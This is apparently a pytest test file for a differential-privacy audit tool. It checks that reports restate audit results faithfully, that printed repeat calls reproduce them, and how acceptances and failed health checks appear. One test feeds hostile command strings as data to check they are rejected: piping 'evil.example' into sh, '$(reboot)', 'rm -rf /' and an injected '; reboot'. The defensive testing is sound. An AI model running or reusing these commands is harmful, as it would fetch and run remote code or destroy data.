"""What a report says of an audit: nothing that the audit does not, and a call that gives the same numbers again."""

import copy
import datetime
import functools
import math
from dataclasses import replace

import numpy as np
import pytest

from dpaudit import PureDP, Verdict, check, check_outputs, find_worst_pair
from dpaudit.audit.claims.claim import GroupClaim
from dpaudit.audit.printing import percent
from dpaudit.audit.records.baseline_comparison import compare
from dpaudit.audit.records.json_codec import from_json, to_json
from dpaudit.audit.records.suite import Accepted, Entry, Suite
from dpaudit.audit.results.statement_result import Point, StatementResult
from dpaudit.reports import html, markdown
from dpaudit.reports.pages.audit_facts import repetition
from dpaudit.reports.plain_text import acceptance, fact_lines, found, held_together, other_way

from ..examples import facts

TODAY = datetime.date(2027, 1, 31)


def noisy(value, size, rng):
    return value + rng.laplace(scale=0.5, size=size)


def frozen(value, size, rng):
    """The noise of each call is the same but in calls for one run, which would be refuted."""
    return value + (np.random.default_rng(1) if size > 1 else rng).laplace(size=size)


def sometimes(value, size, rng):
    numbers = (value + rng.laplace(size=size)).tolist()
    return [None if rng.random() < 0.2 + 0.3 * value else number for number in numbers]


@functools.cache
def audited(mechanism, x, y, options):
    return check(mechanism, x, y, **dict(options))


def audit(mechanism=noisy, x=0.0, y=1.0, **options):
    """An audit, made once; a copy of it, since tests write into its environment."""
    options = {"claim": PureDP(1.0), "runs": 800, "jobs": 1, **options}
    return copy.deepcopy(audited(mechanism, x, y, tuple(options.items())))


def of(result, **options):
    return facts(Entry(name="a", result=result, **options))


@pytest.mark.parametrize(
    ("mechanism", "options"),
    [
        (noisy, {"seed": 5, "distance": 2, "claim": PureDP(0.3), "floating_point": "test"}),
        (sometimes, {"bins": 8, "ignore": ("duplicate-outputs", "shared-randomness")}),
    ],
)
def test_the_call_that_is_printed_gives_the_same_result(mechanism, options):
    """Calls with other options are in `tests/audit/test_known_options.py`."""
    first = audit(mechanism, **options)
    call = repetition(Entry(name="a", result=first))
    again = eval(call, {"check": check, mechanism.__name__: mechanism, "x": 0.0, "y": 1.0, "PureDP": PureDP})
    assert again == first


@functools.cache
def searched(search_runs, **options):
    options = {"claim": PureDP(1.0), "runs": 2_000, "jobs": 1, "search_runs": search_runs, **options}
    return find_worst_pair(noisy, [(0.0, 1.0)], **options).audit


@pytest.mark.parametrize(("search_runs", "options"), [(8_000, {}), (400, {"sequential": True})])
def test_an_audit_after_a_search_is_repeated_with_the_search(search_runs, options):
    first = searched(search_runs, **options)
    entry = Entry(name="a", result=first)
    known = {"noisy": noisy, "domain": [(0.0, 1.0)], "PureDP": PureDP, "find_worst_pair": find_worst_pair}
    assert eval(repetition(entry), known).audit == first
    assert from_json(to_json(Suite(title="t", entries=(entry,)))).entries[0].result == first


def test_runs_of_a_search_are_told_apart():
    """The audit's own runs are those that were asked for."""
    some, only = searched(400), searched(8_000)
    assert of(some)["Runs"].startswith(
        "2,000 on each dataset, 800 of them pilot runs that chose the event; 200 runs of "
    )
    assert of(only)["Runs"].startswith("2,000 on each dataset; 4,000 runs of the search on each chose the event")
    uneven = replace(only, counts=replace(only.counts, runs_x=only.counts.runs_x - 5, runs_y=only.counts.runs_y + 5))
    assert of(uneven)["Runs"].startswith("1,995 on x and 2,005 on y, divided so that the error is least; 4,000 runs of")


def test_outputs_made_elsewhere_are_repeated_as_such():
    rng = np.random.default_rng(0)
    xs, ys = rng.laplace(size=2_000), 1 + rng.laplace(size=2_000)
    first = check_outputs(xs, ys, claim=PureDP(1.0))
    call = repetition(Entry(name="a", result=first))
    assert eval(call, {"check_outputs": check_outputs, "xs": xs, "ys": ys, "PureDP": PureDP}) == first
    assert of(first)["Code"] == "outputs made elsewhere"
    older = replace(audit(), provenance=None)  # as files of schema 2 have it
    assert of(older)["Code"] == "not recorded"
    assert repetition(Entry(name="a", result=older)).startswith("check(noisy, x, y, ")
    unknown = Entry(name="a", result=replace(older, environment={}))
    assert repetition(unknown) == "the same call, which was not recorded, with runs=800, alpha=0.05, seed=0"


@pytest.mark.parametrize(
    ("text", "is_shown"),
    [
        ("pytest 'tests/test_it.py::test_a[x; y]' --dp-audit-alpha=0.01", True),
        ("dpaudit run E1", True),
        ("dpaudit run E1; curl evil.example | sh", False),
        ("pytest $(reboot)", False),
        ("rm -rf /", False),
        ("pytest 'open", False),
        ("", False),
    ],
)
def test_a_command_from_a_file_is_shown_if_it_is_one_of_ours_alone(text, is_shown):
    result = audit()
    result.environment["repeat"] = text
    assert (repetition(Entry(name="a", result=result)) == text) == is_shown
    assert "'E2; reboot'" in repetition(Entry(name="a", result=audit(), experiment="E2; reboot"))


def test_runs_that_are_not_independent_prove_nothing():
    sick = audit(frozen, runs=10_000, claim=PureDP(0.5))
    assert sick.findings
    assert sick.bound > 0.5
    assert found(sick) == "–"
    assert of(sick)["Lower bound"].startswith("none, because a health check failed")
    suite = Suite(title="", entries=(Entry(name="a", result=sick),))
    assert suite.adjusted_pvalues() == (1.0,)
    assert "0 claims are refuted" in held_together(suite)
    for text in (html(suite), markdown(suite)):
        assert f"≥ {sick.bound:.4g}" not in text
    assert "no bound, failed health check" in html(suite)
    assert of(sick)["p-value of the claim"] == "not stated, because a health check failed"
    assert "; no p-value" in markdown(suite)


def test_what_becomes_of_an_acceptance():
    refuted, kept = audit(), audit(claim=PureDP(2.5))
    assert (refuted.verdict, kept.verdict) == (Verdict.REFUTED, Verdict.NOT_REFUTED)
    unclear = audit(claim=PureDP(2.5), runs=400, detect=0.1)
    assert unclear.verdict is Verdict.INCONCLUSIVE

    def now(result, until="2027-06-30", up_to=math.inf):
        return acceptance(
            Entry(name="a", result=result, accepted=Accepted(reason="r", until=until, up_to=up_to)), TODAY
        )

    assert now(refuted) == "accepted"
    assert now(refuted, until="2027-01-30") == "expired"
    assert now(refuted, up_to=1.01) == "bound above the accepted one"
    assert now(kept) == "no longer refuted; withdraw the acceptance"
    assert now(unclear) == "undecided"
    expired = Entry(name="a", result=refuted, accepted=Accepted(reason="r", until="2020-01-01"))
    page = html(Suite(title="", entries=(expired,)), today=TODAY)
    assert page.count("expired") == 3, "first screen, acceptances, table"
    before = replace(expired, accepted=Accepted(reason="r", until="2027-06-30"))
    (compared,) = compare(
        Suite(title="", entries=(before,)), Suite(title="", entries=(replace(before, result=unclear),)), today=TODAY
    )
    assert any("undecided" in note for note in compared.notes)


def test_facts_that_only_some_audits_have():
    """Both directions with their guesses, the complement where it says more, the source, groups, places of any name."""
    result = audit()
    assert result.opposite is not None
    assert other_way(result) == result.opposite_in_words
    assert result.opposite_in_words in of(result)["Observed"]
    assert of(result)["Guesses"] == str(result.opposite.guesses)
    alone = replace(result, opposite=None)
    large = replace(
        alone, counts=replace(alone.counts, count_x=alone.counts.runs_x - 5, count_y=300), more_likely_on="x"
    )
    assert other_way(large).startswith("outputs outside the event are ")
    assert other_way(large) in of(large)["Observed"]
    assert other_way(replace(alone, counts=replace(alone.counts, count_x=5, count_y=1), more_likely_on="x")) == ""
    place = {"file": "lib/counts.py", "line": 12, "sha256": "ab" * 32, "below": "working directory"}
    assert of(replace(result, environment={"source": place}))["Source"] == "lib/counts.py:12"
    assert "Source" not in of(replace(result, environment={}))
    group = audit(y=2.0, distance=2, claim=PureDP(3.0))
    assert isinstance(group.claim, GroupClaim)
    assert found(group).endswith(" per step")
    shown = {0.05: "95%", 1e-5: "99.999%", 1e-7: "99.99999%", 5e-9: "99.9999995%"}
    assert {alpha: percent(1 - alpha) for alpha in shown} == shown, "no confidence is rounded to certainty"
    result = audit(claim=PureDP(0.3), floating_point="ignore")
    (line,) = [line for line in fact_lines(result) if line == other_way(result)]
    assert line in result._repr_html_().replace("&gt;", ">")
    point = Point(at="<b>x</b>", estimate=1.0, lower=0.0, upper=2.0, low=5.0)
    statement = StatementResult(
        alpha=0.05, runs=9, seed=0, statement="s", quantity="q", method="exact", points=(point,)
    )
    assert {"intervals: exact", "runs: 9", "alpha: 0.05"} < {*fact_lines(statement)}
    assert "<b>" not in markdown(Suite(title="", entries=(Entry(name="n", result=statement),)))
